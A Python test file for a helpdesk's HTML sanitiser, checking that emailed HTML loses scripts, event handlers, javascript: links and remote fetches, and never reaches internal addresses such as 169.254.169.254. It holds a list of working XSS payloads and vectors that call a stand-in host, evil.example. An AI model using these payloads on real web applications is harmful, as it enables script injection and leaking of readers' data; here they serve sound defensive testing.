"""Nothing active gets through, nothing is fetched, words and harmless shape stay."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk.mime.content.html_bounds import without_data_urls
from helpdesk.web.html.clean_html import clean_html, holds_back_images, remote_hosts

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<table background=https://evil.example><tr><td background='//evil.example'>x</table>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<video poster=https://evil.example src=x onerror=alert(1)></video>",
    "<img srcset='https://evil.example 2x'>",
    "<a href=/desk/tickets/1/ class='btn btn-primary' id=main>x</a>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
]
ACTIVE = re.compile(
    r"<(?!/?(?:a|img|p|table|tbody|tr|td|br)\b)|\son\w+=|javascript:|\s(?:style|class|id|srcset|background|poster)=|\ssrc=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack: str) -> None:
    assert not ACTIVE.search(clean_html(attack))


def test_remote_pictures_wait_until_they_are_asked_for() -> None:
    source = '<img src="https://shop.example/a.png" alt="Lid"><img src="//shop.example/b.png">'
    held = clean_html(source)
    assert holds_back_images(held)
    assert ' src="' not in held
    shown = clean_html(held, show_remote_images=True)
    assert shown.count(' src="https://shop.example/') == 2
    assert not holds_back_images(shown)


@pytest.mark.parametrize(
    "host",
    [
        "localhost",
        "127.0.0.1:8000",
        "me@10.0.0.1",
        "[::1]",
        "[fd00::1]",
        "169.254.169.254",
        "2130706433",
        "0x7f.1",
        "router",
        "printer.local",
        "a.home.arpa",
    ],
)
def test_a_picture_reaches_nothing_within_the_readers_own_network(host: str) -> None:
    source = f'<img src="http://{host}/restart.png">'
    assert "src=" not in clean_html(source)
    assert "src=" not in clean_html(source, show_remote_images=True)


def test_the_servers_of_held_back_pictures_are_named_once() -> None:
    held = clean_html('<img src="//a.example/1"><img src="https://A.example:8/2"><img src="http://b.example">')
    assert remote_hosts(held) == ["a.example", "b.example"]


def test_pictures_of_the_message_come_from_our_own_store() -> None:
    cleaned = clean_html('<img src="cid:lid%40x"><img src="cid:unknown">', cid_urls={"lid@x": "/attachments/1/"})
    assert cleaned.count("src=") == 1
    assert 'src="/attachments/1/"' in cleaned


def test_links_leave_in_a_new_tab_without_a_referrer() -> None:
    cleaned = clean_html('<a href="https://shop.example/?a=1&amp;b=2">x</a>')
    assert 'href="https://shop.example/?a=1&amp;b=2"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_the_shape_of_a_letter_stays() -> None:
    source = "<p>Dear <b>Priya</b>,</p><ul><li>one</li></ul><blockquote>old</blockquote>"
    assert clean_html(source) == source


def test_words_in_a_form_stay() -> None:
    assert clean_html("<form><p>My order</p></form>") == "<p>My order</p>"


def test_text_that_looks_like_markup_is_not_changed() -> None:
    assert clean_html('<p>&lt;img src="https://x"&gt;</p>') == '<p>&lt;img src="https://x"&gt;</p>'


def test_a_document_too_heavy_to_read_comes_back_as_its_words() -> None:
    assert clean_html("<div>" * 30_000 + "Hello <script>") == "<p>Hello</p>"


@given(st.text(alphabet="<>/=\"' &;:abgimpsrcontylej#x0\n", max_size=200))
@settings(max_examples=150)
def test_cleaning_twice_changes_nothing(source: str) -> None:
    once = clean_html(source)
    assert clean_html(once) == once


@pytest.mark.parametrize(
    "heavy",
    [
        "Hello" + "&" * 900_000,
        "Hello" + "\u00a0" * 900_000,
        ('<img alt="' + "<a " * 9_900 + '">') * 33,
        ("data:a/" * 280 + " ") * 5_000,
    ],
    ids=["ampersands", "spaces", "tags within a tag", "almost pictures"],
)
def test_no_document_takes_seconds(heavy: str) -> None:
    begun = time.process_time()
    clean_html(heavy)
    assert time.process_time() - begun < 5


def test_an_embedded_picture_is_left_out_wherever_its_word_begins() -> None:
    source = "xdata:image/png;base64," + "A" * 3_000
    assert without_data_urls(f'<img src="{source}">') == '<img src="xdata:,">'
    assert without_data_urls("data:image/png," + "A" * 1_900) == "data:image/png," + "A" * 1_900
